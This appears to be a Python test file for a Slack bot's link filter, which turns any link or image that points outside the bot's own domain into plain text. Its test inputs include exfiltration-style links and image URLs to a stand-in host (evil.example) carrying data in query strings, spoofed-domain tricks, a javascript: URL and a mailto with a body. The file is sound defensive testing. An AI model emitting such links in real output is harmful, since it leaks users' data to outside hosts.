"""No link in a model's words leads elsewhere than to our own pages."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.slack.links import only_ours

OURS = "https://srebot.example"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (
            "see [the page](https://evil.example/?d=s3)",
            "see the page (`https://evil.example/?d=s3`)",
        ),
        ("![chart](https://evil.example/p.png?d=s3)", "chart (`https://evil.example/p.png?d=s3`)"),
        ("![](https://evil.example/p.png)", "`https://evil.example/p.png`"),
        ("https://evil.example/?d=s3 now", "`https://evil.example/?d=s3` now"),
        ("<https://evil.example/x>", "`https://evil.example/x`"),
        ("HTTPS://EVIL.example/x", "`HTTPS://EVIL.example/x`"),
        ('[a](https://evil.example "title")', "a (`https://evil.example`)"),
        (
            "[a](https://srebot.example.evil.example/x)",
            "a (`https://srebot.example.evil.example/x`)",
        ),
        (
            "[a](https://srebot.example@evil.example/x)",
            "a (`https://srebot.example@evil.example/x`)",
        ),
        ("[a][1]\n\n[1]: https://evil.example", "[a][1]\n\n"),
        ("[a](javascript:alert(1))", "a (`javascript:alert`))"),
        ("![a](https://srebot.example/x.png)", "a (`https://srebot.example/x.png`)"),
        ("mailto:a@evil.example?body=s3", "`mailto:a@evil.example?body=s3`"),
    ],
)
def test_what_leads_elsewhere_is_text(said: str, shown: str) -> None:
    assert only_ours(said, OURS) == shown


@pytest.mark.parametrize(
    "said",
    [
        "It is full [[2]](https://srebot.example/investigations/7/evidence/2).",
        "[record](https://srebot.example/investigations/7)",
        "https://srebot.example/investigations/7",
        "`curl https://cart.production.svc/healthz` says so",
        "```\nhttps://evil.example\n```",
        "a [note] and (brackets) and 3:14 and http is a word",
    ],
)
def test_what_does_not_stays_as_it_is(said: str) -> None:
    assert only_ours(said, OURS) == said


@settings(max_examples=200)
@given(st.text(st.sampled_from("[]()!<>` \n:/ahtps.0\x00"), max_size=80))
def test_whatever_is_said_it_is_read_quickly_and_once_is_enough(said: str) -> None:
    once = only_ours(said, OURS)
    assert "\0" not in once or "\0" in said
    assert "](http" not in once.replace(f"]({OURS}", "")


@pytest.mark.parametrize("part", ["[", "[a](", "![", "<https://", "`", "[a]: b\n", "]("])
def test_a_long_hostile_text_takes_no_time(part: str) -> None:
    began = time.process_time()
    only_ours(part * (100_000 // len(part)), OURS)
    assert time.process_time() - began < 3
